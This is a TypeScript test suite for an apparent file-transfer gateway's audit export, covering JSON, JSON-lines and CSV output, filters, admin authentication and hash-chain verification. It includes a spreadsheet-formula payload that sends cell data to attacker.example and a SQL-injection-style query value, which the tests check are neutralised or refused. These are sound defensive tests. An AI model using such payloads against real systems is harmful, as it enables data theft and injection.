import assert from 'node:assert/strict';
import { createHash, randomBytes, randomUUID } from 'node:crypto';
import { after, before, describe, it } from 'node:test';
import { createSendLink, eventually, eventuallyStatus, rawRequest, TestGateway } from '@mft/testing';

interface AuditEventJson {
  seq: number;
  id: string;
  at: string;
  type: string;
  outcome: string;
  actor: string | null;
  linkId: string | null;
  grantId: string | null;
  fileId: string | null;
  bytes: number | null;
  ip: string | null;
  userAgent: string | null;
  details: Record<string, unknown>;
  prevHash: string;
  hash: string;
}

const COLUMNS = ['seq', 'id', 'at', 'type', 'outcome', 'actor', 'linkId', 'grantId', 'fileId', 'bytes', 'ip', 'userAgent', 'details', 'prevHash', 'hash'] as const;
const GENESIS = '0'.repeat(64);
/** A user agent that needs CSV quoting: commas, double quotes, a semicolon and a tab. */
const AWKWARD_AGENT = 'Mozilla/5.0 (X11; "Quoted, Inc."), comma,, end\t"';
/** A file name with a comma, quotes and a semicolon: it appears inside the JSON of `details`. */
const KEPT_NAME = "Q3, 'final'; v2.txt";
/** A user agent that a spreadsheet would run as a formula. */
const FORMULA_AGENT = '=HYPERLINK("http://attacker.example/?x="&A1,"click")';

/** RFC 4180 CSV: quoted fields may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') {
        quoted = false;
      } else {
        cell += c;
      }
    } else if (c === '"') {
      quoted = true;
    } else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n' || c === '\r') {
      if (c === '\r' && text[i + 1] === '\n') {
        i++;
      }
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else {
      cell += c;
    }
  }
  assert.equal(quoted, false, 'the CSV ends outside a quoted field');
  if (cell !== '' || row.length > 0) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

/** The chain hash, computed from the export alone as an auditor would (SHA-256 over the previous hash and the fields). */
function chainHash(e: AuditEventJson): string {
  const canonical = (v: unknown): unknown =>
    Array.isArray(v)
      ? v.map(canonical)
      : v && typeof v === 'object'
        ? Object.fromEntries(
            Object.keys(v)
              .sort()
              .map((k) => [k, canonical((v as Record<string, unknown>)[k])]),
          )
        : v;
  const body = JSON.stringify([e.seq, e.id, e.at, e.type, e.outcome, e.actor, e.linkId, e.grantId, e.fileId, e.bytes, e.ip, e.userAgent, canonical(e.details)]);
  return createHash('sha256').update(e.prevHash).update('\n').update(body).digest('hex');
}

describe('audit export', () => {
  let gw: TestGateway;
  let token: string;
  const links: { kept: string; revoked: string; oneTime: string } = { kept: '', revoked: '', oneTime: '' };

  before(async () => {
    gw = await TestGateway.start();
    token = await gw.token();
    // Some activity: a link opened and downloaded by awkward clients, a revoked link, a used-up one-time link.
    const kept = await createSendLink(gw.baseUrl, token, [{ name: KEPT_NAME, content: randomBytes(1000) }], { recipients: "o'brien@example.com" });
    assert.equal(kept.status, 201);
    links.kept = kept.body.id;
    const keptUrl = kept.body.grants[0]!.url;
    assert.equal((await rawRequest(keptUrl, { headers: { 'user-agent': AWKWARD_AGENT } })).status, 200);
    assert.equal((await rawRequest(keptUrl, { headers: { 'user-agent': FORMULA_AGENT } })).status, 200);
    const meta = (await (await fetch(keptUrl, { headers: { accept: 'application/json' } })).json()) as { files: Array<{ id: string }> };
    assert.equal((await rawRequest(`${keptUrl}/files/${meta.files[0]!.id}`, { headers: { 'user-agent': AWKWARD_AGENT } })).status, 200);

    const revoked = await createSendLink(gw.baseUrl, token, [{ name: 'revoked.txt', content: 'r' }]);
    links.revoked = revoked.body.id;
    assert.equal((await fetch(`${gw.baseUrl}/api/v1/links/${links.revoked}`, { method: 'DELETE', headers: { authorization: `Bearer ${token}` } })).status, 204);

    const once = await createSendLink(gw.baseUrl, token, [{ name: 'once.txt', content: 'once' }], { oneTime: 'true' });
    links.oneTime = once.body.id;
    const onceUrl = once.body.grants[0]!.url;
    assert.equal((await rawRequest(`${onceUrl}/archive`)).status, 200);
    assert.equal((await eventuallyStatus(`${onceUrl}/archive`, 410)).status, 410);
    // The mail worker writes the invitation to o'brien@ in its own time: wait for it. (The sweep's
    // purges come whenever it runs; the comparisons below leave out what came after their snapshot.)
    await eventually(
      'the invitation written to the outbox',
      async () => (await (await fetch(`${gw.baseUrl}/api/v1/audit/events?type=mail.sent,mail.deferred,mail.failed`, { headers: { authorization: `Bearer ${token}` } })).json()) as unknown[],
      (events) => events.length > 0,
      30_000,
    );
  });
  after(async () => {
    await gw?.stop();
  });

  async function exportRaw(query: string): Promise<Response> {
    return fetch(`${gw.baseUrl}/api/v1/audit/events${query}`, { headers: { authorization: `Bearer ${token}` } });
  }

  async function exportJson(query = ''): Promise<AuditEventJson[]> {
    const res = await exportRaw(query);
    assert.equal(res.status, 200, `${query}: ${res.status}`);
    return (await res.json()) as AuditEventJson[];
  }

  /** The whole log, once two exports in a row agree (no event was being written in between). */
  async function stableLog(): Promise<AuditEventJson[]> {
    let previous = await exportJson();
    for (let i = 0; i < 50; i++) {
      const now = await exportJson();
      if (now.length === previous.length) {
        return now;
      }
      previous = now;
      await new Promise((r) => setTimeout(r, 100));
    }
    return previous;
  }

  it('exports the same events as a JSON array, as JSON lines and as CSV that quotes awkward values correctly', async () => {
    const all = await stableLog();
    // Events written after the snapshot (a later sweep) are left out of every comparison.
    const last = all[all.length - 1]?.seq ?? 0;
    const res = await exportRaw('?format=json');
    assert.match(res.headers.get('content-type') ?? '', /^application\/json/);
    const json = ((await res.json()) as AuditEventJson[]).filter((e) => e.seq <= last);
    assert.ok(Array.isArray(json));
    assert.deepEqual(json, all, 'format=json is the default');
    assert.ok(json.length >= 10, `${json.length} events`);
    for (const e of json) {
      assert.deepEqual(Object.keys(e).sort(), [...COLUMNS].sort(), `fields of ${e.type}`);
    }

    const jsonl = await exportRaw('?format=jsonl');
    assert.equal(jsonl.status, 200);
    assert.match(jsonl.headers.get('content-type') ?? '', /^application\/x-ndjson/);
    const text = await jsonl.text();
    assert.ok(text.endsWith('\n'));
    const lines = text.slice(0, -1).split('\n');
    assert.deepEqual(
      lines.map((l) => JSON.parse(l) as AuditEventJson).filter((e) => e.seq <= last),
      json,
      'one JSON object a line, the same events',
    );

    const csv = await exportRaw('?format=csv');
    assert.equal(csv.status, 200);
    assert.match(csv.headers.get('content-type') ?? '', /^text\/csv/);
    assert.match(csv.headers.get('content-disposition') ?? '', /^attachment; filename="audit-[^"]+\.csv"$/);
    const rows = parseCsv(await csv.text());
    assert.deepEqual(rows[0], [...COLUMNS], 'a header row names the columns');
    const body = rows.slice(1).filter((row) => Number(row[COLUMNS.indexOf('seq')]) <= last);
    assert.equal(body.length, json.length, 'one row per event');
    for (const [i, row] of body.entries()) {
      const e = json[i]!;
      assert.equal(row.length, COLUMNS.length, `row ${i + 1} has every column`);
      const cell = (c: (typeof COLUMNS)[number]): string => row[COLUMNS.indexOf(c)]!;
      assert.equal(Number(cell('seq')), e.seq);
      for (const c of ['id', 'at', 'type', 'outcome', 'actor', 'linkId', 'grantId', 'fileId', 'ip', 'prevHash', 'hash'] as const) {
        assert.equal(cell(c), e[c] ?? '', `${c} of event ${e.seq}`);
      }
      assert.equal(cell('bytes'), e.bytes === null ? '' : String(e.bytes));
      assert.deepEqual(JSON.parse(cell('details')), e.details, `details of event ${e.seq}`);
      if (e.userAgent === FORMULA_AGENT) {
        assert.equal(cell('userAgent'), `'${FORMULA_AGENT}`, 'a formula is neutralised for spreadsheets');
      } else {
        assert.equal(cell('userAgent'), e.userAgent ?? '', `userAgent of event ${e.seq}`);
      }
    }
    const awkward = json.filter((e) => e.userAgent === AWKWARD_AGENT);
    assert.ok(awkward.some((e) => e.type === 'page.opened') && awkward.some((e) => e.type === 'download.completed'), 'the awkward user agent is exported literally in JSON');
    assert.ok(json.some((e) => e.userAgent === FORMULA_AGENT && e.type === 'page.opened'), 'JSON keeps the formula literally');
    assert.ok(
      json.some((e) => e.type === 'link.created' && (e.details.files as Array<{ name: string }>)[0]!.name === KEPT_NAME),
      'a file name with a comma and quotes survives in details',
    );
  });

  it('filters by type, link and time return exactly the matching events', async () => {
    const all = await stableLog();
    // Events written after the snapshot (a mail attempt, a sweep) are left out of every comparison.
    const last = all[all.length - 1]?.seq ?? 0;
    const seqs = (events: AuditEventJson[]): number[] => events.filter((e) => e.seq <= last).map((e) => e.seq);

    const created = await exportJson('?type=link.created');
    assert.deepEqual(seqs(created), seqs(all.filter((e) => e.type === 'link.created')));
    assert.equal(created.length, 3);
    const ended = await exportJson('?type=link.revoked,grant.consumed,link.consumed');
    assert.deepEqual(seqs(ended), seqs(all.filter((e) => ['link.revoked', 'grant.consumed', 'link.consumed'].includes(e.type))));
    assert.deepEqual(ended.map((e) => e.type).sort(), ['grant.consumed', 'link.consumed', 'link.revoked']);

    for (const linkId of Object.values(links)) {
      const byLink = await exportJson(`?linkId=${linkId}`);
      assert.deepEqual(seqs(byLink), seqs(all.filter((e) => e.linkId === linkId)), `events of ${linkId}`);
      assert.ok(byLink.length > 0);
    }
    const both = await exportJson(`?linkId=${links.kept}&type=page.opened`);
    assert.deepEqual(seqs(both), seqs(all.filter((e) => e.linkId === links.kept && e.type === 'page.opened')));
    assert.equal(both.length, 3);
    assert.deepEqual(await exportJson(`?linkId=${randomUUID()}`), []);

    // `from` is inclusive, `to` exclusive.
    const from = all[Math.floor(all.length / 3)]!.at;
    const to = all[Math.floor((2 * all.length) / 3)]!.at;
    const window = await exportJson(`?from=${encodeURIComponent(from)}&to=${encodeURIComponent(to)}`);
    assert.deepEqual(seqs(window), seqs(all.filter((e) => e.at >= from && e.at < to)));
    assert.ok(window.length > 0);
    const sinceFrom = await exportJson(`?from=${encodeURIComponent(from)}`);
    assert.deepEqual(seqs(sinceFrom), seqs(all.filter((e) => e.at >= from)));
    const offset = new Date(Date.parse(to)).toISOString().replace('Z', '+00:00');
    assert.deepEqual(seqs(await exportJson(`?to=${encodeURIComponent(offset)}`)), seqs(all.filter((e) => e.at < to)), 'a numeric offset is accepted');
    assert.deepEqual(await exportJson(`?from=${encodeURIComponent(new Date(Date.now() + 3_600_000).toISOString())}`), []);

    const [header, ...csvRows] = parseCsv(await (await exportRaw(`?linkId=${links.revoked}&format=csv`)).text());
    const seqColumn = header!.indexOf('seq');
    assert.deepEqual(
      csvRows.map((r) => Number(r[seqColumn])).filter((seq) => seq <= last),
      seqs(all.filter((e) => e.linkId === links.revoked)),
      'filters apply to CSV too (the revoked copy may be purged after the snapshot)',
    );
    const jsonl = (await (await exportRaw('?type=link.created&format=jsonl')).text()).trim().split('\n');
    assert.equal(jsonl.length, 3, 'filters apply to JSON lines too');
  });

  it('refuses unknown event types, malformed filters and callers without an admin token', async () => {
    for (const query of [
      '?type=nonsense',
      '?type=link.created,nonsense',
      "?type=link.created'%20OR%20'1'%3D'1",
      '?linkId=not-a-uuid',
      '?from=yesterday',
      '?to=2030-01-01T00:00:00',
      '?format=xml',
      '?colour=blue',
    ]) {
      const res = await exportRaw(query);
      assert.equal(res.status, 400, query);
      const problem = (await res.json()) as { code: string; message: string };
      assert.equal(problem.code, 'invalid_request', query);
    }
    const nonsense = (await (await exportRaw('?type=nonsense')).json()) as { message: string };
    assert.match(nonsense.message, /type/);
    assert.match(nonsense.message, /link\.created/, 'the message lists the known types');

    assert.equal((await fetch(`${gw.baseUrl}/api/v1/audit/events`)).status, 401);
    assert.equal((await fetch(`${gw.baseUrl}/api/v1/audit/events`, { headers: { authorization: 'Bearer mft_not-a-real-token' } })).status, 401);
    assert.equal((await fetch(`${gw.baseUrl}/api/v1/audit/verify`)).status, 401);
  });

  it('the events are in seq order and hash-chained, and verify checks exactly the exported events', async () => {
    const all = await stableLog();
    assert.deepEqual(
      all.map((e) => e.seq),
      all.map((_, i) => i + 1),
      'seq counts up from 1 without gaps',
    );
    assert.equal(all[0]!.prevHash, GENESIS);
    for (const [i, e] of all.entries()) {
      assert.match(e.hash, /^[0-9a-f]{64}$/);
      if (i > 0) {
        assert.equal(e.prevHash, all[i - 1]!.hash, `event ${e.seq} links to event ${e.seq - 1}`);
        assert.ok(e.at >= all[i - 1]!.at, `event ${e.seq} is not older than the one before`);
      }
      assert.equal(chainHash(e), e.hash, `the hash of event ${e.seq} matches its exported content`);
    }
    assert.equal(new Set(all.map((e) => e.id)).size, all.length);

    // Verify counts the events it checked. A background job (the sweep, the mail worker) may write
    // an event at any moment, so the count is compared with exports taken just before and just
    // after it; when they differ an event came in between and the round is taken again.
    let round = 0;
    for (;;) {
      const before = await exportJson();
      const verify = await fetch(`${gw.baseUrl}/api/v1/audit/verify`, { headers: { authorization: `Bearer ${token}` } });
      assert.equal(verify.status, 200);
      const result = (await verify.json()) as { ok: boolean; checked: number };
      const afterVerify = await exportJson();
      assert.equal(result.ok, true);
      if (afterVerify.length === before.length || ++round === 20) {
        assert.equal(afterVerify.length, before.length, 'nothing was recorded meanwhile');
        assert.deepEqual(result, { ok: true, checked: before.length }, 'verify checks exactly the exported events');
        assert.ok(before.length >= all.length);
        break;
      }
    }
  });
});
